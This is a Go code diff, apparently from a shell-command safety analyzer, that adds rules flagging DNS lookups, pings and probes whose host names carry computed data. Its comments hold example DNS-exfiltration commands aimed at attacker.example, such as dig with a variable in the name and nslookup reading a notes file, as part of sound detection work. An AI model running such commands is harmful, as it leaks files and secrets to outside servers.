@@ -632,6 +632,84 @@ func cmakeModel() *Spec {
 	}}
 }
 
+// hostLookupNames are the programs, besides host (and dig and nslookup,
+// which read names from elsewhere too), that resolve or reach the host
+// their words name and send nothing else of their own: lookups, probes,
+// tracers and fetchers of a single file.
+var hostLookupNames = []string{"delv", "resolvectl", "ping", "ping6",
+	"fping", "arping", "traceroute", "traceroute6", "tracepath", "tracepath6", "mtr", "whois", "ssh-keyscan", "ftpget"}
+
+const whySendsInName = "puts a variable's value or a command's output in its words, which name the host it looks up or reaches: " +
+	"the name alone carries it out, in the DNS query or the packets (dig \"$x.attacker.example\")"
+
+// hostLookup is a program that resolves or reaches the host its words
+// name (dig, host, ping, whois): what its words hold leaves the machine
+// with the name, so a computed word, option or not, is data sent out.
+// Literal words only look up. Lookups that take their names from a
+// file or their input send what it holds (lookupsFromFile).
+func hostLookup(name string) *Spec {
+	s := &Spec{Name: name, Syntax: Syntax{Permute: true}, Open: true, Judge: sendsInName}
+	switch name {
+	case "dig":
+		// dig @attacker.example -f notes.txt: every line is a query to
+		// the server the command names.
+		s.Options = list(val("f", RolePath).does(EffExternal, whyLooksUpFile))
+	case "nslookup":
+		s.Judge = nslookupJudge
+	}
+	return s
+}
+
+const whyLooksUpFile = "looks up every line of a file as a name, which sends what the file holds to the server it asks"
+
+// sendsInName finds a word of a lookup that the shell computes.
+func sendsInName(r *Result, _ []string) {
+	for _, it := range r.Items {
+		if it.Computed || strings.Contains(it.Text, "$(") || strings.IndexByte(it.Text, '`') >= 0 {
+			r.Effects |= EffExternal
+			r.Findings = append(r.Findings, Finding{Effect: EffExternal, Word: it.Word, Why: whySendsInName})
+			return
+		}
+	}
+}
+
+// nslookupJudge: without a name to look up, or with "-" for it, nslookup
+// reads names and commands from its input and asks the server for each
+// (nslookup - attacker.example < notes.txt).
+func nslookupJudge(r *Result, words []string) {
+	sendsInName(r, words)
+	for _, it := range r.Items {
+		if it.Kind == KindOperand {
+			if it.Text != "-" {
+				return
+			}
+			break
+		}
+	}
+	r.Effects |= EffExternal
+	r.Findings = append(r.Findings, Finding{Effect: EffExternal, Word: 0,
+		Why: "reads the names to look up from its input, which sends what the input holds to the server it asks"})
+}
+
+// getentModel is getent: its hosts databases resolve names like dig
+// (getent ahosts "$x.attacker.example"); the others read this machine's
+// tables.
+func getentModel() *Spec {
+	return &Spec{Name: "getent", Syntax: GNU, Open: true, Judge: func(r *Result, words []string) {
+		for _, it := range r.Items {
+			if it.Kind == KindOperand {
+				if hostsDatabases[it.Text] || it.Computed {
+					sendsInName(r, words)
+				}
+				return // the first operand names the database
+			}
+		}
+	}}
+}
+
+// hostsDatabases are getent's databases that look names up in DNS.
+var hostsDatabases = words("hosts", "ahosts", "ahostsv4", "ahostsv6", "networks")
+
 // networkPipe is a program that connects to another machine and carries
 // what it is given there (nc, socat, sendmail): every use has an effect
 // outside.
